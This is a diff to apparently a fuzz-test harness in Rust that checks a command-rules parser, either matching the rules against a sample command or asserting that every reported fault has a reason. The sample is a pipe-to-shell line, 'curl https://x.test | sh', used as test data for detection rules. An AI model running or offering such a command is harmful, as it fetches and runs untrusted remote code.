@@ -22,8 +22,10 @@ pub(super) fn rules(data: &[u8]) {
 /// The same for commands.
 pub(super) fn command_rules(data: &[u8]) {
     let Ok(text) = std::str::from_utf8(data) else { return };
-    let (_, wrong) = commands::check("own.yaml", text);
-    assert!(wrong.iter().all(|w| !w.is_empty()));
+    match commands::Rules::with(&[("own.yaml".to_owned(), text.to_owned())]) {
+        Ok(rules) => rules.find(b"curl https://x.test | sh", &mut Vec::new()),
+        Err(faults) => assert!(!faults.is_empty() && faults.iter().all(|f| !f.reason.is_empty())),
+    }
 }
 
 /// A list is taken, or all that is wrong with it is said with its place.
